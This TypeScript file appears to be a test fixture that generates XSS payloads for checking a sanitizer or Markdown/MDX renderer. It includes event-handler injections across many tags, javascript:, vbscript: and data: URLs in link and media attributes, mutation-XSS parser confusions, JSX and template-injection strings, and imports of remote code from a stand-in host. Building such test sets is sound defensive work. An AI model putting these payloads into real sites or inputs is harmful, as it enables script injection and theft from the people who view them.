/** Content that tries to execute: from cheat sheets (each handler on many elements, each scheme in each attribute), and parser confusions. */

const TAGS =
  'a abbr audio b body button canvas center details dialog div embed fieldset font form frame frameset h1 head html i iframe image img input ins isindex keygen label link marquee math menu meta mglyph mi object p param plaintext pre script select slot source span style svg table td template textarea title track tt u video xmp xss custom-tag'.split(
    ' ',
  );
const EVENTS =
  'onload onerror onclick onfocus onmouseover onanimationstart ontoggle onbeforetoggle onpointerenter onbegin onresize onscroll onwheel oncontentvisibilityautostatechange ontransitionrun onfocusin'.split(
    ' ',
  );
const RUN = 'top.pwned=1;alert(1)';

const handlers = TAGS.flatMap((tag) =>
  EVENTS.map((event) => `<${tag} id=x tabindex=1 autofocus src=x style=animation-name:x ${event}="${RUN}">x</${tag}>`),
);
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java&#10;script:',
  '\x01javascript:',
  'javascript&colon;',
  'vbscript:',
  'data:text/html,<script>',
  'data:image/svg+xml,<svg onload=',
  '//evil.test/',
].flatMap((scheme) =>
  [
    '<a href="%">x</a>',
    '<img src="%">',
    '<iframe src="%"></iframe>',
    '<form action="%"><button>x</button></form>',
    '<button formaction="%">x</button>',
    '<object data="%"></object>',
    '<embed src="%">',
    '<svg><a xlink:href="%"><text>x</text></a></svg>',
    '<math href="%">x</math>',
    '<base href="%">',
    '<link rel=stylesheet href="%">',
    '<meta http-equiv=refresh content="0;url=%">',
    '<video poster="%">',
    '[x](%)',
    '![x](%)',
    '[x]: %\n\n[x]',
    '<%>',
    '<Card title="x" href="%" />',
    '<Card title="x" img="%" icon="%" />',
    '<Frame><img src="%" /></Frame>',
  ].map((form) => form.replaceAll('%', `${scheme}${RUN}`)),
);
const confusing = [
  `<script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<math><mtext></p><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<textarea></textarea><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `<title><script>${RUN}</script></title>`,
  `<style>@import 'https://evil.test/x.css';</style>`,
  `<div style="background:url(https://evil.test/a)">x</div>`,
  `{${RUN}}`,
  `{(() => { ${RUN} })()}`,
  `<div {...{onClick: () => { ${RUN} }}}>x</div>`,
  `<div dangerouslySetInnerHTML={{__html: "<img src=x onerror=${RUN}>"}} />`,
  `export const x = ${RUN.split(';')[0]}`,
  `import x from 'https://evil.test/x.js'`,
  '<form id="content"><input name="textContent"><input name="children"></form>',
  '<img name="body"><img name="documentElement"><a id="menu">x</a><a id="q">x</a>',
  `\`\`\`html "><script>${RUN}</script>\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `# <img src=x onerror=${RUN}>`,
  `## x {#"><img src=x onerror=${RUN}>}`,
  `$$\n\\href{javascript:${RUN}}{x} \\htmlStyle{x}{y}\n$$`,
  `<Tabs><Tab title="<img src=x onerror=${RUN}>">x</Tab></Tabs>`,
  `<Tooltip tip="&quot; onmouseover=${RUN} x=">x</Tooltip>`,
  `<Mermaid>{\`graph TD; A["<img src=x onerror=${RUN}>"]\`}</Mermaid>`,
  `[^<img src=x onerror=${RUN}>]\n\n[^<img src=x onerror=${RUN}>]: x`,
];

export const ATTACKS: readonly string[] = [...handlers, ...schemes, ...confusing];

/** For titles and other fields that are plain text. */
export const FIELDS: readonly string[] = [
  ...confusing,
  `"><script>${RUN}</script>`,
  `' onmouseover=${RUN} x='`,
  `</title><script>${RUN}</script>`,
  `javascript:${RUN}`,
  '{{7*7}}<%= 7 %>',
];
